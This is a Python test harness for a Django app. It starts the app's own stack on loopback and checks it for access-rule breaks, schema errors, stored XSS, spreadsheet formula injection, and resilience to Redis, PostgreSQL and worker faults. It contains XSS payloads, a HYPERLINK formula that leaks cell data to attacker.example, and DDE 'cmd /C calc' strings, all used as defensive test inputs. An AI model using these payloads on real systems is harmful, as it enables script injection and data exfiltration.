"""``make attack``: start the production-style stack on loopback and attack it; one table, exit 1 on any finding.

The stack: gunicorn (WSGI) and uvicorn (ASGI) on production settings, a Celery worker, PostgreSQL (a
database of its own, ``<DATABASE_URL's name>_attack``, dropped and re-created each run) and a private
redis-server on a spare port (the Redis fault stops it; the shared one is never touched).

Each check is independent, names the finding it guards (issue 16) and reports what it found; a check
that crashes is a finding too. Checks:

- ``matrix``: every endpoint of the URLconf x the access cast of tests/access/rules.py over real HTTP
  (API, pages, admin, the SSE stream on the ASGI server) plus the monitor websocket. Reads for every
  role; writes only where the rule says the role is refused (a refused write must change nothing; the
  permitted writes are the in-process matrix's, which rolls each back).
- ``schemathesis``: generated requests against every API operation for anonymous, an analyst and
  staff (GET for signed-in roles, so the run cannot delete its own fixtures); no 5xx, responses
  conform to the published schema.
- ``xss``: script payloads (javascript: URLs, <script>, onerror) stored through ingest into every
  rendered creator and post field, then the pages and admin opened in headless Chromium: no dialog
  may fire and no javascript: link may be clickable.
- ``export``: formula payloads exported through every admin export resource and format: no cell may
  start a formula.
- ``redis``, ``postgres``, ``worker``: the faults, under traffic, with requests lost and recovery time.

Run: ``make attack`` (or ``.venv/bin/python scripts/attack.py [--only CHECK ...]``).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import secrets
import signal
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

ROOT = Path(__file__).resolve().parent.parent
BIN = Path(sys.executable).parent
sys.path.insert(0, str(ROOT))

from tests.faults import PrivateRedis, free_port, wait_port  # noqa: E402


@dataclass
class Result:
    """What one check did: requests sent, findings (each names its issue-16 finding), faults."""

    name: str
    guards: str
    requests: int = 0
    findings: list[str] = field(default_factory=list)
    faults: int = 0
    survived: int = 0
    lost: int = 0
    recovery: float | None = None


# --- The stack -------------------------------------------------------------------------------------


def attack_database_url(base: str) -> str:
    parts = urlsplit(base)
    name = parts.path.lstrip("/") or "creatorscope"
    return urlunsplit(parts._replace(path=f"/{name}_attack"))


def recreate_database(url: str) -> None:
    import psycopg

    parts = urlsplit(url)
    name = parts.path.lstrip("/")
    admin = urlunsplit(parts._replace(path="/postgres"))
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = %s", [name])
        conn.execute(f'DROP DATABASE IF EXISTS "{name}"')
        conn.execute(f'CREATE DATABASE "{name}"')


class Stack:
    """The processes of one production machine, on loopback ports of their own."""

    def __init__(self, env: dict[str, str], logs: Path) -> None:
        self.env = env
        self.logs = logs
        self.web_port, self.asgi_port = free_port(), free_port()
        self.processes: dict[str, subprocess.Popen] = {}

    @property
    def web(self) -> str:
        return f"http://127.0.0.1:{self.web_port}"

    @property
    def asgi(self) -> str:
        return f"http://127.0.0.1:{self.asgi_port}"

    def start(self, name: str, cmd: list[str], env: dict[str, str] | None = None) -> subprocess.Popen:
        log = (self.logs / f"{name}.log").open("a")
        process = subprocess.Popen(
            cmd, cwd=ROOT, env={**self.env, **(env or {})}, stdout=log, stderr=subprocess.STDOUT, start_new_session=True
        )
        self.processes[name] = process
        return process

    def start_web(self) -> None:
        self.start(
            "gunicorn",
            [str(BIN / "gunicorn"), "config.wsgi:application", "-k", "gthread", "-w", "2", "--threads", "4"]
            + ["-b", f"127.0.0.1:{self.web_port}", "--graceful-timeout", "5"],
        )
        self.start(
            "uvicorn",
            [str(BIN / "uvicorn"), "config.asgi:application", "--port", str(self.asgi_port), "--no-access-log"]
            + ["--lifespan", "off", "--log-level", "warning"],
            env={"DATABASE_CONN_MAX_AGE": "0"},
        )
        for port in (self.web_port, self.asgi_port):
            if not wait_port(port, up=True, timeout=90):
                raise RuntimeError(f"server on {port} did not start; see {self.logs}")

    def start_worker(self, name: str = "worker", env: dict[str, str] | None = None) -> subprocess.Popen:
        # The solo pool: the process that runs the task is the one kill -9 hits.
        return self.start(
            name,
            [sys.executable, "-m", "celery", "-A", "config", "worker", "-Q", "ai,default", "-P", "solo"]
            + [
                "-n",
                f"{name}-{secrets.token_hex(3)}@localhost",
                "--without-gossip",
                "--without-mingle",
                "-l",
                "warning",
            ],
            env=env,
        )

    def stop(self) -> None:
        for process in self.processes.values():
            if process.poll() is None:
                os.killpg(process.pid, signal.SIGTERM)
        for process in self.processes.values():
            try:
                process.wait(20)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, signal.SIGKILL)


# --- HTTP as each member of the cast ---------------------------------------------------------------


class Caller:
    """Requests as one role: its session cookie and a CSRF pair, over a kept-alive connection."""

    def __init__(self, session_key: str | None) -> None:
        import requests

        self.http = requests.Session()
        self.csrf = secrets.token_hex(16)  # 32 characters: Django's unmasked CSRF secret
        cookies = {"csrftoken": self.csrf}
        if session_key:
            cookies["sessionid"] = session_key
        self.headers = {
            "Cookie": "; ".join(f"{k}={v}" for k, v in cookies.items()),
            "X-CSRFToken": self.csrf,
            "Host": "127.0.0.1",
        }

    def request(self, method: str, url: str, **kwargs):
        headers = {**self.headers, **kwargs.pop("headers", {})}
        return self.http.request(method, url, headers=headers, allow_redirects=False, timeout=30, **kwargs)


REFUSALS = (401, 403, 404, 405)


def check_matrix(stack: Stack, world, result: Result) -> None:
    from tests.access.endpoints import endpoints
    from tests.access.rules import DATA, ROLES, rule_for
    from tests.access.test_matrix import _url

    callers = {role: Caller(world.sessions.get(role)) for role in ROLES}
    for endpoint in endpoints():
        for method in endpoint.methods:
            rule = rule_for(endpoint.key, method)
            if rule is None:
                result.findings.append(f"no access rule for {endpoint.key} {method}")
                continue
            try:
                url_path = _url(endpoint, world)
            except Exception as exc:  # a path argument the rules cannot fill: named, and the rest goes on
                result.findings.append(f"{endpoint.key}: cannot build its URL ({type(exc).__name__}: {exc})")
                continue
            streaming = endpoint.route.startswith("api/v1/streaming/")
            base = stack.asgi if streaming else stack.web
            for role in ROLES:
                expected = rule.statuses[role]
                if method != "GET" and role != "anonymous" and expected not in REFUSALS:
                    # A permitted write changes the world (a sign-out ends the role's session): the
                    # in-process matrix checks those, each rolled back.
                    continue
                data_factory = DATA.get(f"{endpoint.key} {method}")
                data = data_factory(world) if data_factory else {}
                if endpoint.key == "api-auth-token":
                    data = world.credentials_of(role)
                kwargs: dict = {}
                if endpoint.route.startswith("api/v1/"):
                    kwargs = {"headers": {"Accept": "application/json"}}
                    if method != "GET":
                        kwargs["json"] = data
                elif method != "GET":
                    kwargs = {"data": data}
                if streaming:
                    kwargs = {"headers": {"Accept": "text/event-stream"}, "stream": True}
                try:
                    response = callers[role].request(method, base + url_path, **kwargs)
                    status = response.status_code
                    response.close()
                except Exception as exc:  # a dropped connection is a finding with the role's name
                    status = f"error {type(exc).__name__}"
                result.requests += 1
                if status != expected:
                    result.findings.append(
                        f"{rule.name}: {method} {url_path} as {role} -> {status} (expected {expected})"
                    )
    result.requests += check_websocket(stack, world, result)


def check_websocket(stack: Stack, world, result: Result) -> int:
    """The monitor socket: accepted for staff, closed on connect for everyone else."""
    import websockets

    from tests.access.rules import ROLES, RULES

    allowed = {role for role, status in RULES["streaming-metrics GET"].statuses.items() if status == 200}

    async def opens(role: str) -> bool:
        headers = {"Cookie": f"sessionid={world.sessions[role]}"} if role in world.sessions else {}
        try:
            async with websockets.connect(
                f"ws://127.0.0.1:{stack.asgi_port}/ws/monitor/", additional_headers=headers, origin="http://127.0.0.1"
            ) as socket:
                await asyncio.wait_for(socket.recv(), 15)
                return True
        except (websockets.exceptions.WebSocketException, TimeoutError, OSError):
            return False

    for role in ROLES:
        if asyncio.run(opens(role)) != (role in allowed):
            result.findings.append(
                f"websocket /ws/monitor/ as {role}: {'opened' if role not in allowed else 'refused'}"
            )
    return len(ROLES)


# --- schemathesis ------------------------------------------------------------------------------------


def check_schemathesis(stack: Stack, world, result: Result) -> None:
    from accounts.models import ApiToken

    roles = {
        "anonymous": None,
        "analyst": ApiToken.objects.issue(world.users["author"], "attack", team=world.teams["owning"])[1],
        "staff": ApiToken.objects.issue(world.users["staff"], "attack")[1],
    }
    for role, token in roles.items():
        report = Path(tempfile.mkdtemp()) / "junit.xml"
        cmd = [str(BIN / "st"), "run", f"{stack.web}/api/schema/", "--checks", "not_a_server_error"]
        cmd += ["--checks", "response_schema_conformance", "--max-examples", "3", "--workers", "2"]
        cmd += ["--report", "junit", "--report-junit-path", str(report), "--request-timeout", "20"]
        if token:
            cmd += ["-H", f"Authorization: Token {token}", "--include-method", "GET"]
        cmd += ["-H", "Host: 127.0.0.1"]
        try:
            # In a folder of its own: schemathesis keeps a cache folder where it runs.
            done = subprocess.run(cmd, cwd=report.parent, capture_output=True, text=True, timeout=240)
        except subprocess.TimeoutExpired:
            result.findings.append(f"schemathesis as {role}: did not finish in 240 s")
            continue
        result.requests += _schemathesis_requests(done.stdout)
        failures = _junit_failures(report)
        for failure in failures[:20]:
            result.findings.append(f"schemathesis as {role}: {failure}")
        if done.returncode != 0 and not failures:
            tail = (done.stdout + done.stderr).strip().splitlines()[-1:] or ["?"]
            result.findings.append(f"schemathesis as {role}: exit {done.returncode}: {tail[0][:200]}")


def _schemathesis_requests(output: str) -> int:
    import re

    found = re.search(r"(\d+) generated", output) or re.search(r"Test cases:\s+(\d+)", output)
    return int(found.group(1)) if found else 0


def _junit_failures(report: Path) -> list[str]:
    import xml.etree.ElementTree as ET

    if not report.exists():
        return []
    failures = []
    for case in ET.parse(report).getroot().iter("testcase"):
        for failure in [*case.iter("failure"), *case.iter("error")]:
            lines = [line.strip() for line in f"{failure.get('message') or ''}\n{failure.text or ''}".splitlines()]
            # schemathesis' text: "1. Test Case ID: …", then "- <what failed>" and its details.
            lines = [line for line in lines if line.startswith("- ")] or [line for line in lines if line]
            failures.append(f"{case.get('name')}: {lines[0][:160] if lines else failure.get('message')}")
    return failures


# --- Stored XSS, checked in a browser --------------------------------------------------------------

XSS_URL = "javascript:alert(document.domain)"
XSS_TEXT = '<script>alert(1)</script><img src=x onerror="alert(2)">"><svg onload=alert(3)>'


def seed_xss(world) -> dict[str, int]:
    """Payloads through ingest (what a scrape writes), into every text and URL field shown for a creator."""
    from django.utils import timezone

    from profiles.models import Profile
    from scraping import ingest
    from scraping.schemas import PostData, ProfileData

    profile_data = ProfileData(
        platform="instagram",
        external_id="xss-1",
        handle="xss_probe",
        full_name=XSS_TEXT,
        bio=XSS_TEXT,
        external_url=XSS_URL,
        links=[XSS_URL],
        category=XSS_TEXT,
        avatar_url=XSS_URL,
        followers_count=1000,
    )
    post = PostData(
        platform="instagram",
        external_id="xss-post-1",
        posted_at=timezone.now(),
        author_handle="xss_probe",
        caption=XSS_TEXT,
        body=XSS_TEXT,
        permalink=XSS_URL,
        url=XSS_URL,
        likes_count=1,
        comments_count=1,
    )
    ingest.ingest_profile(profile_data, [post])
    profile = Profile.objects.get(handle="xss_probe")
    return {"profile": profile.pk, "post": profile.posts.get().pk}


def check_xss(stack: Stack, world, result: Result) -> None:
    from playwright.sync_api import sync_playwright

    ids = seed_xss(world)
    pages = [
        "/creators/?q=xss_probe",
        f"/creators/{ids['profile']}/",
        "/admin/profiles/profile/?q=xss_probe",
        f"/admin/profiles/profile/{ids['profile']}/change/",
        "/admin/posts/post/",
        f"/admin/posts/post/{ids['post']}/change/",
    ]
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        context = browser.new_context()
        context.add_cookies(
            [{"name": "sessionid", "value": world.sessions["superuser"], "url": stack.web, "httpOnly": True}]
        )
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in pages:
            response = page.goto(stack.web + path, wait_until="load")
            result.requests += 1
            if response is None or response.status != 200:
                result.findings.append(f"xss: {path} answered {response.status if response else 'nothing'}")
                continue
            page.wait_for_timeout(300)
            links = page.eval_on_selector_all(
                "a[href], area[href]",
                "els => els.filter(e => e.href.trim().toLowerCase().startsWith('javascript:')).length",
            )
            if links:
                result.findings.append(f"stored script: {path} has {links} clickable javascript: link(s)")
            if dialogs:
                result.findings.append(f"stored script: {path} ran a script (dialog {dialogs[0]!r})")
                dialogs.clear()
        browser.close()


# --- Spreadsheet export -------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def check_export(stack: Stack, world, result: Result) -> None:
    import io

    from django.contrib import admin
    from django.test import RequestFactory

    from profiles.models import Profile
    from tests.factories import ProfileFactory

    # Its own probe row, so the check does not depend on another check having run.
    ProfileFactory(handle="formula_probe", full_name=FORMULA, bio=FORMULA, niche="+1+cmd|' /C calc'!A0")
    Profile.objects.filter(handle="xss_probe").update(full_name=FORMULA, niche="@SUM(1+1)*cmd|' /C calc'!A0")
    request = RequestFactory().get("/admin/")
    request.user = world.users["superuser"]
    for model, model_admin in admin.site._registry.items():
        resource_classes = getattr(model_admin, "resource_classes", None)
        if not resource_classes:
            continue
        formats = model_admin.get_export_formats()
        for resource_class in resource_classes:
            # The first 200 rows (the export orders by pk itself, so the slice picks ids, not the queryset).
            first = model._default_manager.order_by("pk").values_list("pk", flat=True)[:200]
            dataset = resource_class().export(queryset=model._default_manager.filter(pk__in=list(first)))
            for fmt_class in formats:
                fmt = fmt_class()
                data = fmt.export_data(dataset)
                result.requests += 1
                cells = _cells(fmt.get_title(), data, io)
                bad = [c for c in cells if isinstance(c, str) and c[:1] in FORMULA_STARTS and not _is_number(c)]
                if bad:
                    result.findings.append(
                        f"formula injection: {model._meta.label} {resource_class.__name__} {fmt.get_title()} "
                        f"writes {bad[0][:40]!r}"
                    )


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cells(title: str, data, io) -> list:
    if title.lower() == "xlsx":
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(data))
        return [("=" + str(c.value)) if c.data_type == "f" else c.value for row in book.active.iter_rows() for c in row]
    text = data.decode() if isinstance(data, bytes) else str(data)
    import csv

    if title.lower() in ("csv", "tsv"):
        delimiter = "\t" if title.lower() == "tsv" else ","
        return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    return []


# --- Faults ------------------------------------------------------------------------------------------


class Traffic:
    """Threads reading the API, a page, the admin and /health until stopped; every answer recorded."""

    def __init__(self, stack: Stack, world, threads: int = 4) -> None:
        self.stack, self.world = stack, world
        self.stop_event = threading.Event()
        self.answers: list[tuple[float, str, int | str]] = []
        self.lock = threading.Lock()
        self.threads = [threading.Thread(target=self._run, daemon=True) for _ in range(threads)]

    def _run(self) -> None:
        caller = Caller(self.world.sessions["superuser"])
        paths = ["/api/v1/profiles/", "/creators/", "/admin/profiles/profile/", "/health"]
        i = 0
        while not self.stop_event.is_set():
            path = paths[i % len(paths)]
            i += 1
            try:
                status = caller.request("GET", self.stack.web + path).status_code
            except Exception as exc:
                status = type(exc).__name__
            with self.lock:
                self.answers.append((time.monotonic(), path, status))

    def __enter__(self) -> Traffic:
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stop_event.set()
        for thread in self.threads:
            thread.join(35)

    def lost(self, since: float = 0.0) -> list[tuple[float, str, int | str]]:
        """Answers that were not a success: a 5xx or no answer (4xx would be an access finding)."""
        return [a for a in self.answers if a[0] >= since and (not isinstance(a[2], int) or a[2] >= 500)]


def _wait(condition: Callable[[], bool], timeout: float, interval: float = 0.5) -> float | None:
    started = time.monotonic()
    while time.monotonic() - started < timeout:
        try:
            if condition():
                return time.monotonic() - started
        except Exception:
            pass
        time.sleep(interval)
    return None


def check_redis(stack: Stack, world, result: Result, redis: PrivateRedis) -> None:
    import requests

    caller = Caller(None)
    with Traffic(stack, world) as traffic:
        time.sleep(2)
        redis.stop()
        result.faults += 1
        time.sleep(8)
        ready = caller.request("GET", stack.web + "/ready")
        health = caller.request("GET", stack.web + "/health")
        if ready.status_code != 503 or "cache" not in ready.json().get("failing", []):
            result.findings.append(f"redis down: /ready answered {ready.status_code} {ready.text[:120]}")
        if health.status_code != 200:
            result.findings.append(f"redis down: /health answered {health.status_code}")
        redis.start()
        result.recovery = _wait(lambda: requests.get(stack.web + "/ready", headers={"Host": "127.0.0.1"}).ok, 60)
        time.sleep(2)
    lost = traffic.lost()
    result.requests += len(traffic.answers) + 2
    result.lost += len(lost)
    if result.recovery is None:
        result.findings.append("redis back: /ready not 200 within 60 s")
    if lost:
        result.findings.append(f"redis down: {len(lost)} requests lost, e.g. {lost[0][1]} -> {lost[0][2]}")
    else:
        result.survived += 1


def check_postgres(stack: Stack, world, result: Result, database_url: str) -> None:
    import psycopg

    name = urlsplit(database_url).path.lstrip("/")
    with Traffic(stack, world) as traffic, psycopg.connect(database_url, autocommit=True) as admin:
        time.sleep(2)
        for _ in range(5):
            admin.execute(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                "WHERE datname = %s AND pid <> pg_backend_pid() AND backend_type = 'client backend'",
                [name],
            )
            result.faults += 1
            time.sleep(1.5)
        last = time.monotonic()
        time.sleep(3)
    lost = traffic.lost()
    after = [a for a in traffic.answers if a[0] > last and isinstance(a[2], int) and a[2] < 500]
    result.recovery = (after[0][0] - last) if after else None
    result.requests += len(traffic.answers)
    result.lost += len(lost)
    if lost:
        result.findings.append(
            f"postgres connections dropped: {len(lost)} requests lost, e.g. {lost[0][1]} -> {lost[0][2]}"
        )
    else:
        result.survived += result.faults


def check_worker(stack: Stack, world, result: Result) -> None:
    """kill -9 a worker mid-batch; a new worker and the reaper finish the backlog, none lost or twice."""
    from celery import Celery

    from intelligence.models import AnalysisBatch
    from posts.models import AIStatus, Post
    from tests.factories import PostFactory, ProfileFactory

    author = ProfileFactory(handle="attack_worker")
    ids = [p.pk for p in PostFactory.create_batch(400, author=author, caption="sunny beach day #travel")]
    app = Celery(broker=stack.env["REDIS_URL"])
    worker = stack.start_worker("worker-killed")
    app.send_task("intelligence.tasks.analyze_pending", queue="ai")
    done = lambda: Post.objects.filter(pk__in=ids, ai_status=AIStatus.DONE).count()  # noqa: E731
    if _wait(lambda: done() >= 20, 120, 0.2) is None:
        result.findings.append("worker: the batch did not start within 120 s")
        return
    os.killpg(worker.pid, signal.SIGKILL)
    killed_at = time.monotonic()
    result.faults += 1
    done_before = done()
    stack.start_worker("worker-after", {"AI_BATCH_SIZE": "32"})
    # beat's one-minute tick of the reaper, faster here: the claim timeout is what recovery waits for
    ticker_stop = threading.Event()

    def tick() -> None:
        while not ticker_stop.wait(5):
            app.send_task("intelligence.tasks.reap_batches", queue="ai")

    ticker = threading.Thread(target=tick, daemon=True)
    ticker.start()
    finished = _wait(lambda: done() == len(ids), 240, 1)
    ticker_stop.set()
    result.requests += len(ids)
    if finished is None:
        result.lost += len(ids) - done()
        result.findings.append(f"worker killed: {len(ids) - done()} posts not analysed 240 s later")
        return
    result.recovery = time.monotonic() - killed_at
    orphans = AnalysisBatch.objects.filter(status="running").count()
    processed = sum(AnalysisBatch.objects.filter(kind="posts").values_list("processed", flat=True))
    if orphans:
        result.findings.append(f"worker killed: {orphans} batch rows still running")
    if processed != len(ids) - done_before:
        result.findings.append(
            f"worker killed: {processed} posts processed after the kill, expected {len(ids) - done_before}"
        )
    if not result.findings:
        result.survived += 1


# --- Running it all ----------------------------------------------------------------------------------

CHECKS = {
    "matrix": "1, 2 roles and scoping on every door",
    "schemathesis": "low: 500s on odd input, schema conformance",
    "xss": "3 stored script via scraped links",
    "export": "5 spreadsheet formula injection",
    "redis": "8 Redis down takes the API and admin down",
    "postgres": "low: dropped PostgreSQL connections answer 500",
    "worker": "low: worker killed mid-batch",
}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", nargs="*", choices=sorted(CHECKS), help="run these checks only")
    args = parser.parse_args()
    started = time.monotonic()
    base_url = os.environ.get("DATABASE_URL", "postgres://postgres@127.0.0.1:5432/creatorscope")
    database_url = attack_database_url(base_url)
    logs = Path(tempfile.mkdtemp(prefix="attack-logs-"))
    redis = PrivateRedis().start()
    env = {
        **os.environ,
        "DATABASE_URL": database_url,
        "REDIS_URL": redis.url,
        "DJANGO_SETTINGS_MODULE": "config.settings",
        "DJANGO_DEBUG": "0",
        "DJANGO_ALLOWED_HOSTS": "127.0.0.1,localhost",
        "DJANGO_SECURE_COOKIES": "0",
        "LOG_LEVEL": "warning",
        "AI_BACKEND": "rules",
        "AI_BATCH_SIZE": "1",
        "AI_PIPELINE_BATCH": "500",
        "AI_CLAIM_TIMEOUT": "60",
        # The matrix is thousands of requests a minute from one address.
        "API_THROTTLE_USER": "1000000/min",
        "API_THROTTLE_ANON": "1000000/min",
        "CREATORSCOPE_VAR_DIR": str(logs / "var"),
        "HF_HUB_OFFLINE": "1",
        # Creator connect configured (both of Meta's logins), as in tests/access, so its doors answer by their rules, not the
        # "feature hidden" 404 (no call leaves: starting only redirects to Meta, and the callbacks
        # refuse unsigned posts).
        "META_APP_ID": "attack-app",
        "META_APP_SECRET": "attack-secret",
        "META_FACEBOOK_APP_ID": "attack-facebook-app",
        "META_FACEBOOK_APP_SECRET": "attack-facebook-secret",
    }
    os.environ.update(env)
    recreate_database(database_url)
    import django

    django.setup()
    from django.core.management import call_command
    from django.db import connection

    call_command("migrate", "--noinput", verbosity=0)
    call_command("collectstatic", "--noinput", verbosity=0)
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    from tests.access.conftest import _build_world

    world = _build_world()
    world.media_path = default_storage.save("access-matrix/probe.txt", ContentFile(b"probe"))
    stack = Stack(env, logs)
    results: list[Result] = []
    try:
        stack.start_web()
        for name, guards in CHECKS.items():
            if args.only and name not in args.only:
                continue
            result = Result(name, guards)
            began = time.monotonic()
            connection.close()  # this process's own connection may be one a fault terminated
            try:
                if name == "redis":
                    check_redis(stack, world, result, redis)
                elif name == "postgres":
                    check_postgres(stack, world, result, database_url)
                else:
                    globals()[f"check_{name}"](stack, world, result)
            except Exception as exc:
                result.findings.append(f"check crashed: {type(exc).__name__}: {exc}"[:300])
                traceback.print_exc()
            print(
                f"  {name}: {result.requests} requests, {len(result.findings)} findings ({time.monotonic() - began:.0f} s)"
            )
            results.append(result)
    finally:
        stack.stop()
        redis.stop()
    print_table(results, time.monotonic() - started, logs)
    return 1 if any(r.findings for r in results) else 0


def print_table(results: list[Result], seconds: float, logs: Path) -> None:
    print()
    header = f"{'check':<13}{'guards (issue 16)':<48}{'requests':>9}{'findings':>9}{'faults survived':>17}{'requests lost':>15}{'recovery s':>12}"
    print(header)
    print("-" * len(header))
    for r in results:
        faults = f"{r.survived}/{r.faults}" if r.faults else "-"
        recovery = f"{r.recovery:.1f}" if r.recovery is not None else "-"
        print(
            f"{r.name:<13}{r.guards[:47]:<48}{r.requests:>9}{len(r.findings):>9}{faults:>17}"
            f"{(r.lost if r.faults else '-'):>15}{recovery:>12}"
        )
    total = sum(len(r.findings) for r in results)
    print("-" * len(header))
    print(
        f"{'total':<61}{sum(r.requests for r in results):>9}{total:>9}"
        f"{sum(r.survived for r in results):>13}/{sum(r.faults for r in results):<3}{sum(r.lost for r in results):>15}"
    )
    print(f"\n{total} findings in {seconds:.0f} s (process logs: {logs})")
    for r in results:
        for finding in r.findings[:40]:
            print(f"  [{r.name}] {finding}")
        if len(r.findings) > 40:
            print(f"  [{r.name}] ... and {len(r.findings) - 40} more")
    print(json.dumps({"findings": total}))


if __name__ == "__main__":
    sys.exit(main())
